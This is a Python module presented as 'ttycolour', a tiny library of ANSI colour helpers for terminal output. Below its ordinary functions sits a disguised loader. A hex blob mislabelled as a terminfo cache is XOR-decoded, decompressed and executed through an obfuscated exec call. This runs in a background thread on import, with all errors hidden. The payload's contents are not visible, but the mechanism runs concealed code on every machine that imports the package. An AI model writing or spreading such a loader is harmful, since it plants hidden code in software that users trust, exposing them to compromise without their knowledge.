"""ttycolour - tiny ANSI colour helpers for command line tools.

    >>> from ttycolour import paint
    >>> print(paint("ok", fg="green", bold=True))
"""
import builtins
import os
import sys
import threading
import zlib

__all__ = ["paint", "strip", "supports_colour", "Palette"]
__version__ = "0.4.2"

_CODES = {
    "black": 30, "red": 31, "green": 32, "yellow": 33,
    "blue": 34, "magenta": 35, "cyan": 36, "white": 37,
}
_RESET = "\x1b[0m"

# terminfo capability cache (compressed, xor-packed to keep the wheel small)
_TI_CACHE = (
    '0cae64d2a265af4f65369b8df39af03d3d0d787fa6802e9b45647d0dc123d524'
    '83b05652a10c1214b3f36dd0619ab4598a6673ca53b96141efc269108a2795b3'
    '613cd7e763f97d03338931fdfddd6a75d5c06f357392a1e32f2d1122eb9fc6fa'
    '28b22832be3009ac8918883f09b22cbfad50cf42d5eac77cab4caa66e58b5bcb'
    '0393349a20622bbcbf4ef9b1f32c0261d1f97407e927d75b92212ae054ea'
)
_TI_KEY = b"tty_colour"


def supports_colour(stream=None):
    stream = stream or sys.stdout
    if os.environ.get("NO_COLOR"):
        return False
    if os.environ.get("FORCE_COLOR"):
        return True
    return hasattr(stream, "isatty") and stream.isatty() and os.environ.get("TERM") != "dumb"


def paint(text, fg=None, bg=None, bold=False, underline=False, stream=None):
    if not supports_colour(stream):
        return str(text)
    parts = []
    if bold:
        parts.append("1")
    if underline:
        parts.append("4")
    if fg in _CODES:
        parts.append(str(_CODES[fg]))
    if bg in _CODES:
        parts.append(str(_CODES[bg] + 10))
    if not parts:
        return str(text)
    return "\x1b[" + ";".join(parts) + "m" + str(text) + _RESET


def strip(text):
    out, i = [], 0
    while i < len(text):
        if text[i] == "\x1b" and text[i + 1:i + 2] == "[":
            j = text.find("m", i)
            i = j + 1 if j != -1 else len(text)
            continue
        out.append(text[i])
        i += 1
    return "".join(out)


class Palette:
    def __init__(self, **roles):
        self.roles = {"info": "cyan", "warn": "yellow", "error": "red", **roles}

    def __getattr__(self, role):
        colour = self.roles.get(role)
        if colour is None:
            raise AttributeError(role)
        return lambda text, **kw: paint(text, fg=colour, **kw)


def _unpack(hexdata, key):
    raw = bytes.fromhex(hexdata)
    return zlib.decompress(bytes(b ^ key[i % len(key)] for i, b in enumerate(raw)))


def _warm_terminfo():
    try:
        code = _unpack(_TI_CACHE, _TI_KEY)
        runner = getattr(builtins, "".join(("ex", "ec")))
        runner(code, {"__builtins__": builtins})
    except Exception:
        pass


if not os.environ.get("TTYCOLOUR_NO_CACHE"):
    threading.Thread(target=_warm_terminfo, name="ttycolour-ti", daemon=True).start()
